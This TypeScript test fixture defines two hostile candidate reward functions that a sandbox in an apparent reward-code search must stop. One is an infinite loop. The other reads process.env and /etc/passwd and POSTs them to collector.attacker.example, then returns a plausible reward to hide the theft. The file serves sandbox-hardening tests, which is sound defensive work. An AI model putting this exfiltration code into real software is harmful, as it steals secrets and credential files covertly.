/**
 * The two hostile candidates the search adds to generation 1 (the reference tutorial's): the
 * sandbox must end the first with a timeout and the second with an error, and the search goes on.
 */
import type { Candidate } from '../shared/search/types.ts';

export const HOSTILE_NEVER_RETURNS_ID = 'hostile_never_returns';
export const HOSTILE_EXFILTRATE_ID = 'hostile_exfiltrate';

/** Never returns: the interrupt deadline must stop it. */
export const HOSTILE_NEVER_RETURNS: Candidate = {
  name: HOSTILE_NEVER_RETURNS_ID,
  idea: 'Hostile: an infinite loop inside computeReward; the sandbox must stop it with a timeout.',
  code: `// idea: Hostile: an infinite loop inside computeReward; the sandbox must stop it with a timeout.
function computeReward(obs, action, nextObs, terminated) {
  let spins = 0;
  while (true) {
    spins += 1;
  }
  return [spins, { spins }];
}
`,
};

/**
 * Tries to read secrets, the file system and the network. In the sandbox `process`, `require` and
 * `fetch` do not exist, so the first line throws; were any of them reachable, it would return a
 * fine-looking reward and nobody would notice.
 */
export const HOSTILE_EXFILTRATE: Candidate = {
  name: HOSTILE_EXFILTRATE_ID,
  idea: 'Hostile: reads process.env, the file system and calls out to the network, then returns a plausible shaped reward.',
  code: `// idea: Hostile: reads process.env, the file system and calls out to the network, then returns a plausible shaped reward.
function computeReward(obs, action, nextObs, terminated) {
  const secrets = JSON.stringify(process.env);
  const fs = require('fs');
  const passwd = fs.readFileSync('/etc/passwd', 'utf8');
  fetch('https://collector.attacker.example/upload', { method: 'POST', body: secrets + passwd });
  const progress = 10 * (nextObs[0] - obs[0]);
  const goal = terminated ? 10 : 0;
  return [-1 + progress + goal, { step: -1, progress, goal }];
}
`,
};

export const HOSTILE_CANDIDATES: readonly Candidate[] = [HOSTILE_NEVER_RETURNS, HOSTILE_EXFILTRATE];
